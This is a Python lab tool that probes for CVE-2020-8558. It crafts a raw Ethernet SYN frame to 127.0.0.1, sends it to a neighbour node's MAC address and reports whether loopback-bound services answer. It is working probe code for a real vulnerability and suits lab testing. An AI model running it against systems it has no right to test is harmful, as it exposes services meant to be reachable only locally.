"""Send a neighbour's TCP SYN addressed to 127.0.0.1 and report whether a SYN-ACK comes back.

This is the CVE-2020-8558 probe: with ``route_localnet=1`` (which localhost NodePorts need),
a host accepts packets to 127.0.0.0/8 arriving on a real interface, so a neighbour can reach
services bound to loopback, unless a rule drops such martians. An ordinary socket cannot send
to 127.0.0.1 through a link (its own loopback wins), so this builds the Ethernet frame itself
and sends it on an AF_PACKET socket to the node's MAC address. Lab use only: run it inside the
client namespace of a lab topology.

    python -m lab.martian --iface eth0 --dst-mac MAC --src IP --port P

prints ``{"syn_ack": true|false}``.
"""

from __future__ import annotations

import argparse
import json
import random
import socket
import struct
import time

ETH_P_IP = 0x0800


def _checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn_frame(*, src_mac: bytes, dst_mac: bytes, src: str, dst: str, sport: int, dport: int) -> bytes:
    """Ethernet + IPv4 + TCP SYN, checksums filled in."""
    saddr, daddr = socket.inet_aton(src), socket.inet_aton(dst)
    tcp = struct.pack("!HHIIBBHHH", sport, dport, random.getrandbits(32), 0, 5 << 4, 0x02, 65535, 0, 0)
    pseudo = saddr + daddr + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", _checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), random.getrandbits(16), 0, 64,
                     socket.IPPROTO_TCP, 0, saddr, daddr)
    ip = ip[:10] + struct.pack("!H", _checksum(ip)) + ip[12:]
    return dst_mac + src_mac + struct.pack("!H", ETH_P_IP) + ip + tcp


def probe(*, iface: str, dst_mac: str, src: str, port: int, timeout: float) -> bool:
    """True if the node answered the SYN to 127.0.0.1:port with a SYN-ACK."""
    with open(f"/sys/class/net/{iface}/address", encoding="ascii") as fh:
        src_mac = bytes.fromhex(fh.read().strip().replace(":", ""))
    sport = random.randint(20000, 60000)
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_IP)) as s:
        s.bind((iface, 0))
        s.settimeout(0.2)
        s.send(syn_frame(src_mac=src_mac, dst_mac=bytes.fromhex(dst_mac.replace(":", "")),
                         src=src, dst="127.0.0.1", sport=sport, dport=port))
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            try:
                frame = s.recv(2048)
            except socket.timeout:
                continue
            ip = frame[14:]
            if len(ip) < 40 or ip[9] != socket.IPPROTO_TCP:
                continue
            tcp = ip[(ip[0] & 0x0F) * 4:]
            tsport, tdport = struct.unpack("!HH", tcp[:4])
            if tsport == port and tdport == sport and tcp[13] & 0x12 == 0x12:
                return True
    return False


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--iface", required=True)
    parser.add_argument("--dst-mac", required=True, help="the node's MAC address on that link")
    parser.add_argument("--src", required=True, help="our own IP address on that link")
    parser.add_argument("--port", type=int, required=True, help="a port the node listens on at 127.0.0.1")
    parser.add_argument("--timeout", type=float, default=2.0)
    args = parser.parse_args()
    print(json.dumps({"syn_ack": probe(iface=args.iface, dst_mac=args.dst_mac, src=args.src,
                                       port=args.port, timeout=args.timeout)}))


if __name__ == "__main__":
    main()
